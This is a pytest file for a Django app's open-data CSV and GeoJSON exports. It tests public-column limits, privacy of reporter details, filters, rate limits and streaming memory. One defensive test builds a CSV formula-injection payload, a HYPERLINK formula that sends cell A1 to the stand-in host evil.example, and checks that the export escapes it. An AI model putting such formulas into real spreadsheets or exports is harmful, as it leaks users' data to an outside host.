"""Open data: CSV and GeoJSON downloads of the public fields, and their data dictionary."""

from __future__ import annotations

import csv
import io
import json
import tracemalloc
from datetime import UTC, datetime

import pytest
from django.http import StreamingHttpResponse
from django.urls import reverse

from accountability import exports
from reports.models import Report
from tests.factories import make_authority, make_report, make_service

CSV = reverse("accountability:export-csv")
GEOJSON = reverse("accountability:export-geojson")

# Every column a download may carry: what the report pages show, nothing else.
ALLOWED = {
    "id",
    "url",
    "service_code",
    "service_name",
    "title",
    "description",
    "state",
    "status",
    "lat",
    "lon",
    "address",
    "authority",
    "authority_name",
    "requested_datetime",
    "updated_datetime",
    "acknowledged_datetime",
    "closed_datetime",
    "expected_datetime",
    "support_count",
    "comment_count",
    "reopened_count",
}
PRIVATE_VALUES = ("Priya Private", "priya@secret.example.org", "07700 900123", "device-42")


def _body(response) -> str:
    assert isinstance(response, StreamingHttpResponse)
    return b"".join(response.streaming_content).decode()


def _csv(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(_body(response))))


def _features(response) -> list[dict]:
    return json.loads(_body(response))["features"]


@pytest.fixture
def private_report(service, authority):
    """A report whose reporter left every private detail there is."""
    report = make_report(
        service=service,
        title="Broken lamp",
        contact_name="Priya Private",
        contact_email="priya@secret.example.org",
        contact_phone="07700 900123",
        device_id="device-42",
    )
    Report.objects.filter(pk=report.pk).update(
        contact_name="Priya Private",
        contact_email="priya@secret.example.org",
        contact_phone="07700 900123",
        device_id="device-42",
    )
    return report


def test_csv_has_only_public_columns_and_no_private_value(anonymous, private_report):
    response = anonymous.get(CSV)

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="reports-')
    body = _body(response)
    rows = list(csv.DictReader(io.StringIO(body)))
    assert set(rows[0]) == ALLOWED
    assert [column.name for column in exports.COLUMNS] == list(rows[0])
    for value in (*PRIVATE_VALUES, private_report.token):
        assert value not in body
    row = rows[0]
    assert row["id"] == str(private_report.pk)
    assert row["url"].endswith(f"/reports/{private_report.pk}/")
    assert (row["service_code"], row["state"], row["status"]) == ("pothole", "submitted", "open")
    assert row["authority"] == "borough"
    assert row["closed_datetime"] == ""


def test_geojson_has_only_public_properties_and_no_private_value(anonymous, private_report):
    response = anonymous.get(GEOJSON)

    assert response["Content-Type"] == "application/geo+json"
    body = _body(response)
    for value in (*PRIVATE_VALUES, private_report.token):
        assert value not in body
    (feature,) = json.loads(body)["features"]
    assert set(feature) == {"type", "id", "geometry", "properties"}
    assert set(feature["properties"]) == ALLOWED - {"lat", "lon"}
    assert feature["geometry"] == {
        "type": "Point",
        "coordinates": [private_report.lon, private_report.lat],
    }


def test_a_report_without_a_location_has_empty_coordinates(anonymous, service, authority):
    report = make_report(service=service, address="1 High Street")
    Report.objects.filter(pk=report.pk).update(lat=None, lon=None)

    (row,) = _csv(anonymous.get(CSV))
    (feature,) = _features(anonymous.get(GEOJSON))

    assert (row["lat"], row["lon"], row["address"]) == ("", "", "1 High Street")
    assert feature["geometry"] is None


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_run_are_text(anonymous, service, authority, start):
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
    make_report(service=service, title=f"{formula} lamp", description=formula, lat=51.5, lon=-0.12)

    (row,) = _csv(anonymous.get(CSV))

    assert row["title"] == f"'{formula} lamp"
    assert row["description"] == f"'{formula}"
    # Numbers stay numbers, a negative longitude too; so does text that only contains them.
    assert (row["lat"], row["lon"]) == ("51.5", "-0.12")
    assert row["state"] == "submitted"
    (feature,) = _features(anonymous.get(GEOJSON))
    assert feature["properties"]["description"] == formula  # not a spreadsheet: as typed


def test_csv_keeps_text_with_a_sign_inside_as_typed(anonymous, service, authority):
    make_report(service=service, title="Lamp out = dark street", description="Costs £5 - or +10")

    (row,) = _csv(anonymous.get(CSV))

    assert (row["title"], row["description"]) == ("Lamp out = dark street", "Costs £5 - or +10")


def test_hidden_reports_are_not_exported(anonymous, service, authority):
    shown = make_report(service=service, title="Shown")
    hidden = make_report(service=service, title="Hidden one")
    Report.objects.filter(pk=hidden.pk).update(is_hidden=True)

    assert [row["id"] for row in _csv(anonymous.get(CSV))] == [str(shown.pk)]
    assert [f["id"] for f in _features(anonymous.get(GEOJSON))] == [shown.pk]


def test_filters_narrow_the_export(anonymous, service, authority, other_authority):
    graffiti = make_service(code="graffiti", name="Graffiti")
    old = make_report(service=service, title="Old")
    Report.objects.filter(pk=old.pk).update(requested_at=datetime(2025, 1, 10, 9, tzinfo=UTC))
    recent = make_report(service=service, title="Recent", state="fixed")
    Report.objects.filter(pk=recent.pk).update(
        requested_at=datetime(2026, 3, 5, 23, 30, tzinfo=UTC)
    )
    elsewhere = make_report(service=graffiti, lat=51.60, lon=-0.30, title="Elsewhere")
    Report.objects.filter(pk=elsewhere.pk).update(authority=other_authority)

    def ids(**query) -> list[int]:
        return [int(row["id"]) for row in _csv(anonymous.get(CSV, query))]

    assert ids() == [old.pk, recent.pk, elsewhere.pk]
    assert ids(service="graffiti") == [elsewhere.pk]
    assert ids(state="fixed") == [recent.pk]
    assert ids(state="open") == [old.pk, elsewhere.pk]
    assert ids(authority="water") == [elsewhere.pk]
    assert ids(bbox="-0.2,51.5,-0.1,51.52") == [old.pk, recent.pk]
    # Whole days, both ends included.
    assert ids(**{"from": "2026-03-05", "to": "2026-03-05"}) == [recent.pk]
    assert ids(to="2025-12-31") == [old.pk]


@pytest.mark.parametrize(
    "query", [{"bbox": "1,2,3"}, {"from": "yesterday"}, {"from": "2026-02-01", "to": "2026-01-01"}]
)
def test_a_bad_filter_is_a_400_with_the_reason(anonymous, db, query):
    response = anonymous.get(CSV, query)

    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/plain")


def test_exports_are_rate_limited(anonymous, db, settings):
    settings.RATE_LIMITS = {"export": [(3600, 2)]}

    codes = [anonymous.get(CSV).status_code for _ in range(3)]

    assert codes == [200, 200, 429]
    assert int(anonymous.get(GEOJSON)["Retry-After"]) > 0


@pytest.mark.parametrize("rows", [1, 30])
def test_export_queries_do_not_grow_with_rows(
    anonymous, service, authority, django_assert_num_queries, rows
):
    _bulk_reports(service, rows)
    with django_assert_num_queries(1):
        # 1. the rows, with one join each to service, authority and thread; none per
        # row. (The rate-limit counter is in the cache in tests; no session: anonymous.)
        response = anonymous.get(CSV)
        body = _body(response)
    assert body.count("\n") == rows + 1


def _bulk_reports(service, count: int, start: int = 0) -> None:
    Report.objects.bulk_create(
        Report(
            service=service,
            title=f"Report {n} with a longer title than most",
            description="A description of some length, as residents write them. " * 3,
            lat=51.51,
            lon=-0.14,
            token=f"{n:032x}",
        )
        for n in range(start, start + count)
    )


def _peak_bytes(fmt_chunks, reports) -> int:
    tracemalloc.start()
    try:
        for _chunk in fmt_chunks(reports):
            pass
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize("chunks", [exports.csv_chunks, exports.geojson_chunks])
def test_exports_stream_in_bounded_memory(service, chunks, monkeypatch):
    """Six times the rows do not take six times the memory: rows are read and written
    a chunk at a time, never all at once. (Small chunks keep the test quick; past two
    chunks the peak no longer grows.)"""
    monkeypatch.setattr(exports, "CHUNK_ROWS", 200)
    monkeypatch.setattr(exports, "WRITE_ROWS", 50)
    _bulk_reports(service, 400)
    _peak_bytes(chunks, Report.objects.all())  # one-time allocations (imports, caches) first
    small = _peak_bytes(chunks, Report.objects.all())
    _bulk_reports(service, 2000, start=400)
    large = _peak_bytes(chunks, Report.objects.all())

    assert Report.objects.count() == 2400
    # Holding every row would take about six times as much.
    assert large < 1.6 * small, (small, large)


def test_the_data_dictionary_describes_every_column(anonymous, db, settings):
    settings.DATA_LICENCE = "ODbL 1.0"
    make_authority(name="Borough Council", slug="borough")
    response = anonymous.get(reverse("accountability:open-data"))

    html = response.content.decode()
    assert response.status_code == 200
    for name in ALLOWED:
        assert f"<code>{name}</code>" in html
    assert "ODbL 1.0" in html
    assert f'href="{reverse("open311:index")}"' in html
    assert f'action="{CSV}"' in html
    assert f'formaction="{GEOJSON}"' in html
    assert '<option value="borough">Borough Council</option>' in html
